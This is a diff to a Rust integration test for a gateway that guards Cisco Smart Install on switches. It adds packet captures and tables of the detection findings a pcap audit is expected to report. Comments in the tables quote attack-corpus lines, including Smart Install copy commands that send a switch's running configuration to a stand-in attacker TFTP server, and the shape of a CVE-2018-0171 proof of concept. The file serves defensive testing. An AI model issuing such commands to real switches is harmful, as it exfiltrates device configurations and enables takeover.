@@ -16,7 +16,13 @@
 //! server is dropped at the relay and no TFTP leaves the switch; nft counters and audit records
 //! account for every drop; a ruleset flush is repaired; SIGKILL leaves 4786 closed.
 //!
+//! tcpdump records the three links on their far side from the gateway (what the attacker sent,
+//! what the director sent, what reached the switch) for the whole run, and `ztpgate pcap audit`
+//! must find exactly the findings and speakers the test's actions imply (tables [`OUTSIDE`],
+//! [`MGMT`], [`ACCESS`]).
+//!
 //! Needs root, `ip netns`, `nft` and `in.tftpd` (tftpd-hpa); prints a skip reason otherwise.
+//! Without tcpdump the capture audit alone is skipped, with its reason printed.
 
 #![allow(clippy::unwrap_used)]
 
@@ -31,7 +37,9 @@ use std::thread::sleep;
 use std::time::Duration;
 
 use common::netns::{Netns, Proc, packets, skip_reason};
+use common::pcap_audit::{self, Expected};
 use common::s;
+use common::tcpdump::{self, Recording};
 use serde_json::Value;
 
 const DIRECTOR: &str = "10.77.1.2";
@@ -320,6 +328,13 @@ fn only_the_director_reaches_the_switch_and_only_toward_allowed_tftp_servers() {
     let mut gw = Gateway::start(&t.gw, dir.path());
     gw.wait_for("firewall applied", 1);
     switch.take();
+    let captures = match tcpdump::skip_reason() {
+        Some(reason) => {
+            eprintln!("capture audit skipped: {reason}");
+            None
+        }
+        None => Some(Captures::start(&t, dir.path())),
+    };
 
     // 1. The director's probe is steered through the relay and gets the 24-byte reply.
     let r = one(&t.mgmt, SWITCH, "test", TFTP_SERVER).unwrap();
@@ -481,6 +496,11 @@ fn only_the_director_reaches_the_switch_and_only_toward_allowed_tftp_servers() {
         "the switch was reached after the gateway died"
     );
     assert!(t.gw.tables().contains("table inet ztpgate"));
+
+    // 8. The captures of the run hold exactly the findings the steps above imply.
+    if let Some(captures) = captures {
+        captures.audit(&dir.path().join("ztpgate.toml"));
+    }
 }
 
 fn wait_for_file(path: &Path, needle: &str) -> String {
@@ -494,6 +514,143 @@ fn wait_for_file(path: &Path, needle: &str) -> String {
     }
     panic!("{} never arrived with {needle:?}", path.display());
 }
+
+/// The three links, each recorded on its far side from the gateway for the whole run.
+struct Captures {
+    outside: Recording,
+    mgmt: Recording,
+    access: Recording,
+}
+
+impl Captures {
+    fn start(t: &Topology, dir: &Path) -> Self {
+        Self {
+            outside: Recording::start(&t.outside, "og", &dir.join("outside.pcap")),
+            mgmt: Recording::start(&t.mgmt, "mg", &dir.join("mgmt.pcap")),
+            access: Recording::start(&t.access, "ag", &dir.join("access.pcap")),
+        }
+    }
+
+    /// Stops the recordings and audits each with the gateway's configuration `config`.
+    fn audit(self, config: &Path) {
+        let config = ["--config", s(config)];
+        let outside = pcap_audit::audit(&self.outside.stop(), &config);
+        let mgmt = pcap_audit::audit(&self.mgmt.stop(), &config);
+        // Behind the relay the switch's director is the gateway itself (step 1: the switch sees
+        // the gateway, not the director), so its addresses there are the directors of that link.
+        let mut access_args = config.to_vec();
+        for relay in RELAY_EGRESS {
+            access_args.extend(["--director", relay]);
+        }
+        let access = pcap_audit::audit(&self.access.stop(), &access_args);
+        for report in [&outside, &mgmt, &access] {
+            assert!(report["directors_known"] == true && report["tftp_servers_known"] == true);
+        }
+        for (link, report, expected) in [
+            ("outside", &outside, &OUTSIDE),
+            ("mgmt", &mgmt, &MGMT),
+            ("access", &access, &ACCESS),
+        ] {
+            expected.check(link, report);
+        }
+    }
+}
+
+/// The relay's addresses on the access link.
+const RELAY_EGRESS: [&str; 2] = ["10.77.2.1", "fd77:2::1"];
+
+/// What the attacker sent (link og, namespace outside). The gateway drops its SYNs, so no
+/// connection is ever established and no message of the corpus is on the wire: each attempt is
+/// a connection from a non-director to port 4786 that never got an answer.
+const OUTSIDE: Expected = Expected {
+    findings: &[
+        // Step 2: the twelve corpus modes, one connection each.
+        "12 si-non-director medium 10.77.3.66 -> 10.77.2.10",
+        // Step 6: the probe once the flushed ruleset is back.
+        "1 si-non-director medium 10.77.3.66 -> 10.77.2.10",
+        // Step 7: the probe after SIGKILL.
+        "1 si-non-director medium 10.77.3.66 -> 10.77.2.10",
+        // Step 1: the attacker's IPv6 probe.
+        "1 si-non-director medium fd77:3::66 -> fd77:2::10",
+        // (Step 2's probe of the relay's own port, 10.77.1.1:14786, is not on Smart Install's
+        // port: no finding.)
+    ],
+    // Connection attempts only: the attacker opened them; the switch, never reached, still
+    // counts as having accepted them (the speaker table counts attempts, answered or not).
+    speakers: &[
+        ("10.77.2.10", "listener"),
+        ("10.77.3.66", "connector"),
+        ("fd77:2::10", "listener"),
+        ("fd77:3::66", "connector"),
+    ],
+    messages: 0..=0,
+    tftp: false,
+};
+
+/// What the director sent and got back (link mg, namespace mgmt). Its probes and its
+/// copy-commands naming the allowed TFTP server (steps 1 and 3), the switch's upload to that
+/// server (step 3) and the refused probe after SIGKILL (step 7) give no finding: a configured
+/// director, an allowed server.
+const MGMT: Expected = Expected {
+    findings: &[
+        // Step 4, the director's corpus naming the attacker's TFTP server. From a director only
+        // the server it names is wrong: si-legacy-test, si-get-config, si-change-config,
+        // si-update-ios and si-execute keep to non-directors. One finding per mode:
+        // legacy-test, tftp://10.77.3.66/random_file;
+        "1 si-url-host-not-allowed high 10.77.1.2 -> 10.77.2.10 config_push",
+        // get-config, copy flash:/config.text tftp://10.77.3.66/10.77.2.10.conf;
+        "1 si-url-host-not-allowed high 10.77.1.2 -> 10.77.2.10 copy_commands",
+        // msf-download, copy system:running-config tftp://10.77.3.66/msfcfgdl;
+        "1 si-url-host-not-allowed high 10.77.1.2 -> 10.77.2.10 copy_commands",
+        // change-config, tftp://10.77.3.66/10.77.2.10.conf with a reload;
+        "1 si-url-host-not-allowed high 10.77.1.2 -> 10.77.2.10 config_push",
+        // update-ios, tftp://10.77.3.66/tar_imglist0.txt;
+        "1 si-url-host-not-allowed high 10.77.1.2 -> 10.77.2.10 image_upgrade",
+        // execute, tftp://10.77.3.66/execute.txt;
+        "1 si-url-host-not-allowed high 10.77.1.2 -> 10.77.2.10 execute",
+        // split, get-config in four segments, reassembled into one message;
+        "1 si-url-host-not-allowed high 10.77.1.2 -> 10.77.2.10 copy_commands",
+        // pipelined, its get-config (its probe is the director's own: nothing).
+        "1 si-url-host-not-allowed high 10.77.1.2 -> 10.77.2.10 copy_commands",
+        // cve-2018-0171, shapes that count whoever sends them: the PoC's filler,
+        "1 si-cve-2018-0171-poc critical 10.77.1.2 -> 10.77.2.10 init_discovery",
+        // its TLV overrunning the message,
+        "1 si-tlv-overflow critical 10.77.1.2 -> 10.77.2.10 init_discovery",
+        // and the next "header", made of filler, declaring about 1 GiB.
+        "1 si-length-mismatch high 10.77.1.2 -> 10.77.2.10 oversized",
+    ],
+    // The switch is a client here too: the relay passes its replies back under its address.
+    speakers: &[
+        ("10.77.1.2", "director"),
+        ("10.77.2.10", "client"),
+        ("fd77:1::2", "director"),
+        ("fd77:2::10", "client"),
+    ],
+    // Step 1: probe and reply, IPv4 and IPv6 (4); step 3: get-config (1); step 4: one message
+    // per mode, two for pipelined, the PoC's first (10). The relay resets the director's
+    // connections of step 4 before passing anything back.
+    messages: 15..=15,
+    tftp: true,
+};
+
+/// What reached the switch (link ag, namespace access): the relay's connections carrying the
+/// director's probes (step 1, IPv4 and IPv6), its copy-commands toward the allowed server
+/// (step 3), the probe of the pipelined segment (step 4), the switch's replies and its upload to
+/// the allowed server (step 3). No attack reached the switch: nothing is found.
+const ACCESS: Expected = Expected {
+    findings: &[],
+    speakers: &[
+        ("10.77.2.1", "director"),
+        ("10.77.2.10", "client"),
+        ("fd77:2::1", "director"),
+        ("fd77:2::10", "client"),
+    ],
+    // Step 1: probe and reply, IPv4 and IPv6 (4); step 3: get-config (1); step 4: pipelined's
+    // probe (1) and the switch's reply, unless the relay's reset (after it records the denial of
+    // the copy-commands behind the probe) reaches the switch first.
+    messages: 6..=7,
+    tftp: true,
+};
 
 const POLICY: &str = r#"name = "topology"
 
